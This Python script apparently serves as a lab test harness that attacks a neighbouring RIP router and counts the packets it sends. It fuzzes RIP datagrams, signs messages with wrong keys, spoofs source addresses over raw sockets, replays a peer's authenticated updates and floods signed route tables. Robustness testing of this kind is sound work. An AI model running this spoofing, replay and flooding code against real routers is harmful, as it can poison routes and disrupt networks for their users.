"""Runs inside a node: sends hostile RIP datagrams to a neighbour, and prints how many of each kind, as JSON.

Arguments: `count` or `flood`, how many, the seed, the victim's address, the peer's, and the secret of key 1.

`count` sends no faster than the victim reads: after every few datagrams it asks for a route, as it may, and waits for
the answer. `flood` sends what costs the most, signed tables of new prefixes, as fast as it can.
"""

import hashlib
import json
import random
import socket
import struct
import sys
import time
from collections import Counter

BATCH = 25
PATIENCE = 60.0
GROUP = "224.0.0.9"
OFF_LINK = "192.0.2.1"


class Attack:
    def __init__(self, seed, victim, peer, secret):
        self.random = random.Random(seed)
        self.victim, self.peer, self.secret = victim, peer, secret.encode()
        self.sent = Counter()
        self.networks = 1 << 8  # so few that the others' tables do not crowd out what is to be counted
        self.rip = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.rip.bind(("", 520))
        here = socket.inet_aton(GROUP) + socket.inet_aton("0.0.0.0")
        self.rip.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, here)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for each in (self.rip, self.asking):
            each.settimeout(PATIENCE)

    # What is sent

    def seal(self, message, secret=None):
        """RFC 2082: an entry in front, the digest behind."""
        message = message.ljust(4, b"\2")
        entry = struct.pack(">HHHBBIQ", 0xFFFF, 3, len(message) + 20, 1, 16, int(time.time()), 0)
        signed = message[:4] + entry + message[4:] + b"\xff\xff\0\1"
        return signed + hashlib.md5(signed + (secret or self.secret).ljust(16, b"\0")).digest()

    def entry(self):
        network = 0xAC100000 | self.random.randrange(self.networks) << 8
        metric = self.random.choice([1, 2, 5, 14, 15, 16])
        return struct.pack(">HHIIII", 2, self.random.randrange(9), network, 0xFFFFFF00, 0, metric)

    def good(self):
        head = self.random.choice([b"\2\2\0\0", b"\2\2\0\0", b"\1\2\0\0"])
        return head + b"".join(self.entry() for _ in range(self.random.randrange(1, 25)))

    def mutated(self):
        """A good message with bits flipped, cut, with a piece of another in it, or of another kind."""
        data = bytearray(self.good())
        how = self.random.randrange(5)
        if how == 0:
            return self.flipped(data, self.random.randrange(1, 30))
        if how == 1:
            return bytes(data[: self.random.randrange(len(data))])
        if how == 2:
            at = self.random.randrange(len(data))
            return bytes(data[:at] + self.good()[self.random.randrange(24) :])
        if how == 3:
            data[:4] = self.random.randbytes(2) + b"\0\0"
            data[self.random.randrange(2)] = self.random.randrange(4)
            return bytes(data)
        return bytes(data[:4]) + self.random.randbytes(20 * self.random.randrange(28))

    def flipped(self, data, bits):
        data = bytearray(data)
        for _ in range(bits):
            data[self.random.randrange(len(data))] ^= 1 << self.random.randrange(8)
        return bytes(data)

    # How it is sent

    def send(self, kind, data, source=None):
        self.sent[kind] += 1
        if source is None:
            self.rip.sendto(data, (self.victim, 520))
            return
        udp = struct.pack(">HHHH", 520, 520, 8 + len(data), 0) + data
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
        ends = socket.inet_aton(source) + socket.inet_aton(self.victim)
        self.raw.sendto(head + ends + udp, (self.victim, 0))

    def one(self):
        kind = self.random.choice(
            ["random", "unsigned", "damaged", "wrong key", "off link", "spoofed", "signed", "signed"]
        )
        if kind == "random":
            self.send(kind, self.random.randbytes(self.random.randrange(600)))
        elif kind == "unsigned":
            self.send(kind, self.mutated())
        elif kind == "damaged":
            self.send(kind, self.flipped(self.seal(self.good()), 1))
        elif kind == "wrong key":
            self.send(kind, self.seal(self.mutated(), b"guess"))
        elif kind == "off link":
            self.send(kind, self.seal(self.good()), OFF_LINK)
        elif kind == "spoofed":
            self.send(kind, self.seal(self.good(), b"guess"), self.peer)
        else:
            self.send(kind, self.seal(self.mutated()))

    def ask(self):
        """Wait until the victim has read what was sent before."""
        self.sent["questions"] += 1
        question = b"\1\2\0\0" + struct.pack(">HHIIII", 2, 0, 0xAC100000, 0xFFFFFF00, 0, 0)
        self.asking.sendto(self.seal(question), (self.victim, 520))
        self.asking.recv(2048)

    def overheard(self):
        """A message that the peer has signed."""
        while True:
            data, (source, _) = self.rip.recvfrom(2048)
            if source == self.peer:
                return data

    def replay(self, times):
        """An old message of the peer's, once the victim has heard a later one."""
        recorded = self.overheard()
        while self.overheard()[12:16] <= recorded[12:16]:
            pass
        for _ in range(times):
            self.send("replayed", recorded, self.peer)

    def count(self, number):
        for n in range(number):
            self.one()
            if n % BATCH == BATCH - 1:
                self.ask()
        self.replay(BATCH)
        self.ask()

    def flood(self, number):
        self.networks = 1 << 12
        ready = [self.seal(b"\2\2\0\0" + b"".join(self.entry() for _ in range(24))) for _ in range(1000)]
        for n in range(number):
            self.send("signed", ready[n % len(ready)])


def main():
    how, number, seed, victim, peer, secret = sys.argv[1:]
    attack = Attack(int(seed), victim, peer, secret)
    (attack.count if how == "count" else attack.flood)(int(number))
    sys.stdout.write(json.dumps(attack.sent))


main()
